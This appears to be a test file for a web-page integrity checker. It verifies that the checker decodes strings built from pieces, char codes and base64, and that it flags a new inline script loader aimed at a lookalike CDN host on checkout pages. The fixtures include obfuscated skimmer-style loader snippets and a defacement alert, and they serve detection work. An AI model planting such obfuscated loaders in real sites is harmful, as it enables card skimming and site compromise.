/**
 * The rules of round 27 (fresh33 and fresh34 became tuning data after their
 * first looks), on the hand-written bakery page: each with the change it
 * catches and the honest change beside it that it leaves alone.
 */
import { describe, expect, it } from "@effect/vitest"
import { fold, readScript } from "../../src/internal/script.js"
import { breaches, page, verdictOf } from "../support/pages.js"

describe("round 27: strings a script puts together from pieces", () => {
  it("folds literals added together, arrays of literals joined, character codes and base64 into one literal each", () => {
    expect(fold(`s.src="https://"+["cdn-jquery","min","com"].join(".")+"/js/lib.js"`)).toBe(`s.src="https://cdn-jquery.min.com/js/lib.js"`)
    expect(fold(`var u = 'ht' + "tps:" + '//shop' + ".example"`)).toBe(`var u = "https://shop.example"`)
    expect(fold(`alert(String.fromCharCode(104, 105))`)).toBe(`alert("hi")`)
    expect(fold(`x(atob("aGVsbG8gd29ybGQ="))`)).toBe(`x("hello world")`)
    // (a piece computed as the script runs leaves the sum as written)
    expect(fold(`var a = "https://" + host + ".example/x"`)).toBe(`var a = "https://" + host + ".example/x"`)
  })

  it("reads the address a loader assembles, and the words a dialog spells from character codes", () => {
    expect(readScript(`var s=document.createElement("script");s.src="https://"+["stat","counter-cdn","net"].join(".")+"/c.js";document.head.appendChild(s)`).urls)
      .toContain("https://stat.counter-cdn.net/c.js")
    const message = "Hacked by nobody, patch your server"
    const codes = [...message].map((c) => c.charCodeAt(0)).join(",")
    expect(readScript(`for(var i=0;i<3;i++)alert(String.fromCharCode(${codes}))`).writes).toEqual([message])
  })

  it("a new inline loader whose host is assembled from pieces alerts on the host; the site's own assembled address does not", () => {
    const loader = (host: string) =>
      page({ seed: 4, head: `<script>(function(){if(!/checkout|basket/.test(location.href))return;var s=document.createElement("script");s.src="https://"+[${host.split(".").map((p) => JSON.stringify(p)).join(",")}].join(".")+"/js/v.js";document.head.appendChild(s)})()</script>` })
    expect(breaches(verdictOf(loader("jquery-cdn-min.top")))).toContain("destinations/inline_script_new_domain")
    expect(breaches(verdictOf(loader("www.harbourbakery.co.uk")))).not.toContain("destinations/inline_script_new_domain")
  })

  it("the old split of a script tag written by document.write stays a script tag, not words shown", () => {
    const writes = readScript(`document.write("<scr"+"ipt src='/static/legacy.js'></scr"+"ipt>")`).writes.join(" ")
    expect(writes).not.toContain("legacy")
    expect(writes).not.toContain("script")
  })
})
